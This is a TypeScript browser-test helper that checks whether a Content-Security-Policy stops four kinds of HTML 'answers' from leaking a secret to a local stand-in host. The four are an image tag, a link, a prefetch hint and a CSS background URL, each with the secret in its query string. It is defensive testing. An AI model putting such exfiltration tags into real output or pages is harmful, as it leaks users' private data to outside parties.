// Shows four answers in a browser that point to a stranger’s host, without a policy and with one.
import { once } from 'node:events'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { setTimeout as wait } from 'node:timers/promises'
import type { Browser } from '@playwright/test'
import { secret } from './addresses.ts'

/** Shows the answers and counts the requests that tell the stranger. */
export async function leaksThroughAnswers(browser: Browser, policy: string) {
  const heard: string[] = []
  const stranger = createServer((asked, answer) => {
    heard.push(asked.url ?? '')
    answer.end()
  }).listen(0, '127.0.0.1')
  await once(stranger, 'listening')
  const elsewhere = `http://127.0.0.1:${(stranger.address() as AddressInfo).port}`
  const answers = {
    'a picture': `<img src="${elsewhere}/pixel.png?d=${secret}" alt="">`,
    'a link': `<a href="${elsewhere}/?d=${secret}">your order</a>`,
    'a link with prefetch': `<link rel="prefetch" href="${elsewhere}/p?d=${secret}">`,
    'a style with a background': `<p style="background: url(${elsewhere}/b.png?d=${secret})">Done</p>`,
  }
  const pages: Record<string, string> = {}
  const site = createServer((asked, answer) => {
    const { pathname, searchParams } = new URL(asked.url ?? '/', 'http://host')
    answer.setHeader('content-type', 'text/html')
    if (searchParams.has('policy')) answer.setHeader('content-security-policy', policy)
    answer.end(`<!doctype html><title>Answer</title>${pages[pathname] ?? ''}`)
  }).listen(0, '127.0.0.1')
  await once(site, 'listening')
  const origin = `http://127.0.0.1:${(site.address() as AddressInfo).port}`

  const rows = []
  for (const [answer, html] of Object.entries(answers)) {
    const counted: Record<string, number> = {}
    for (const [name, query] of [
      ['without_policy', ''],
      ['with_policy', '?policy'],
    ] as const) {
      heard.length = 0
      pages['/answer'] = html
      const page = await browser.newPage()
      await page.goto(`${origin}/answer${query}`)
      await wait(1000)
      await page.close()
      counted[name] = heard.filter((line) => line.includes(secret)).length
    }
    rows.push({ answer, ...counted })
  }
  site.close()
  stranger.close()
  return rows
}
